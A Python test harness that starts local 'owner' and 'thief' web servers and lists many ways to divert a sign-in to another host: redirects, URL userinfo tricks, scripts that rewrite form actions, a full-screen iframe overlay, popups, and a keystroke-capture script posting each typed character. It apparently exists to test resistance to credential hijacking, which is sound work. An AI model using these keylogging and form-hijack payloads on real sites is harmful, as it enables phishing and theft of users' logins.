"""Owners and thieves: small sites on this machine, and ways to lead a sign-in from the one to the other."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Self
from urllib.parse import unquote_plus

Answer = tuple[int, dict[str, str], str]
"""Status, headers, page."""

TELL = """<script>addEventListener("input", (event) => fetch("/typed", { method: "POST", body: event.target.value }), true)</script>"""
"""Tells a server every character that is typed on its page."""


@dataclass
class Server:
    """A site that keeps whatever reaches it."""

    answer: Callable[[str, str, str], Answer]
    """Given method, path and body."""
    asked: list[str] = field(default_factory=list)
    typed: list[str] = field(default_factory=list)

    def __enter__(self) -> Self:
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *_: object) -> None:
                pass

            def do_GET(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode(
                    "utf-8", "replace"
                )
                if self.path == "/typed":
                    site.typed.append(body)
                    status, headers, page = 204, {}, ""
                else:
                    kept = "\n".join([self.command, self.path, body, str(self.headers)])
                    site.asked += [kept, unquote_plus(kept)]
                    status, headers, page = site.answer(self.command, self.path, body)
                content = f"<!doctype html><title>x</title>{page}".encode() if page else b""
                self.send_response(status)
                for name, value in {"Content-Type": "text/html; charset=utf-8", **headers}.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(content)

            do_HEAD = do_POST = do_GET  # noqa: N815 - the library's names

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    def url(self, host: str = "127.0.0.1") -> str:
        """Its address under a name; every name below `localhost` leads to this machine."""
        return f"http://{host}:{self.server.server_port}"


def form(fields: str, action: str = "", method: str = "post", attributes: str = "", button: str = "") -> str:
    """A form with its button, and what tells its own server of every character."""
    return f'<form method="{method}" action="{action}" {attributes}>{fields}{button}</form>{TELL}'


@dataclass
class Place:
    """Where a hop is made: what the owner would have shown, and who waits elsewhere.

    Attributes:
        fields: Boxes that are asked for.
        button: The button, with room for attributes.
        thief: Serves the same form at every path.
        owner_url: The owner's address.
    """

    fields: str
    button: str
    thief: Server
    owner_url: str

    def own(self, *, before: str = "", after: str = "", button: str = "", **given: str) -> Answer:
        """The owner's page, with something about it changed."""
        return 200, {}, before + form(self.fields, button=self.button.format(button), **given) + after

    def lead(self, address: str, status: int = 302) -> Answer:
        return status, {"Location": address}, ""


def _script(code: str) -> str:
    return f"<script>{code}</script>"


def _port_of(place: Place) -> str:
    return place.owner_url.rsplit(":", 1)[1]


HOPS: dict[str, Callable[[Place], Answer]] = {
    # the whole page is somebody else's
    "redirect to another host": lambda at: at.lead(at.thief.url("portal.localhost") + "/"),
    "redirect to another port": lambda at: at.lead(at.thief.url() + "/"),
    "redirect to another name of this machine": lambda at: at.lead(at.thief.url("localhost") + "/", 307),
    "redirect to a longer name": lambda at: at.lead(at.thief.url("127.0.0.1.amazon.co.uk.channels.localhost") + "/", 301),
    "redirect with the owner's name as a user": lambda at: at.lead(
        at.thief.url(f"127.0.0.1%3A{_port_of(at)}@portal.localhost") + "/", 303
    ),
    "refresh to another host": lambda at: (
        200, {}, f'<meta http-equiv=refresh content="0;url={at.thief.url("portal.localhost")}/">'
    ),
    "refresh by a header": lambda at: (200, {"Refresh": f"0; url={at.thief.url('sub.localhost')}/"}, "<p>Wait"),
    "script leads away": lambda at: (200, {}, _script(f"location = {json.dumps(at.thief.url('portal.localhost') + '/')}")),
    "leads away while it is typed": lambda at: at.own(
        after=_script(f"addEventListener('input', () => location = {json.dumps(at.thief.url() + '/')}, true)")
    ),
    "leads away as a box is entered": lambda at: at.own(
        after=_script(f"addEventListener('focus', () => location = {json.dumps(at.thief.url() + '/')}, true)")
    ),
    # the page is the owner's, its form is not
    "form sends to another host": lambda at: at.own(action=at.thief.url("portal.localhost") + "/x"),
    "form sends to another port": lambda at: at.own(action=at.thief.url() + "/x"),
    "form sends without a scheme": lambda at: at.own(action=at.thief.url("portal.localhost").removeprefix("http:") + "/x"),
    "button sends to another host": lambda at: at.own(action="/x", button=f'formaction="{at.thief.url("localhost")}/x"'),
    "base is another host": lambda at: at.own(before=f'<base href="{at.thief.url("portal.localhost")}/">', action="x"),
    "form with a box named action": lambda at: (
        200, {}, form(at.fields + '<input type=hidden name=action value="/x">', at.thief.url() + "/x", button=at.button.format(""))
    ),
    "script moves the form at once": lambda at: at.own(
        action="/x", after=_script(f"document.forms[0].action = {json.dumps(at.thief.url() + '/x')}")
    ),
    "script moves the form while it is typed": lambda at: at.own(
        action="/x",
        after=_script(f"addEventListener('input', () => document.forms[0].action = {json.dumps(at.thief.url() + '/x')})"),
    ),
    "script moves the form as it is pressed": lambda at: at.own(
        action="/x",
        after=_script(f"addEventListener('click', () => document.forms[0].action = {json.dumps(at.thief.url() + '/x')}, true)"),
    ),
    "script moves the form as it is sent": lambda at: at.own(
        action="/x",
        after=_script(f"document.forms[0].onsubmit = (event) => event.target.action = {json.dumps(at.thief.url() + '/x')}"),
    ),
    "script sends the form itself": lambda at: at.own(
        action="/x",
        after=_script(
            "document.forms[0].onsubmit = (event) => { event.preventDefault(); "
            f"event.target.action = {json.dumps(at.thief.url() + '/x')}; HTMLFormElement.prototype.submit.call(event.target) }}"
        ),
    ),
    "form puts it into the address": lambda at: at.own(action="/x", method="get"),
    "button puts it into the address": lambda at: at.own(action="/x", button="formmethod=get"),
    "form without a method": lambda at: at.own(action="/x", method=""),
    # the form is in another window or frame
    "frame of another host": lambda at: (
        200, {}, f'<iframe src="{at.thief.url("portal.localhost")}/" width=900 height=600></iframe>'
    ),
    "frame over the whole page": lambda at: at.own(
        action="/x",
        after=f'<iframe src="{at.thief.url()}/" style="position:fixed;inset:0;width:100%;height:100%;border:0"></iframe>',
    ),
    "popup of another host": lambda at: (
        200, {}, "<p>Please sign in in the other window." + _script(f"open({json.dumps(at.thief.url('portal.localhost') + '/')})")
    ),
    # sent to its owner, who sends it on
    "answered by a redirect that sends it again": lambda at: at.own(action="/again"),
    # asked for by the browser itself
    "asks by HTTP": lambda at: (401, {"WWW-Authenticate": 'Basic realm="owner"'}, "<p>Sign in"),
}  # fmt: skip
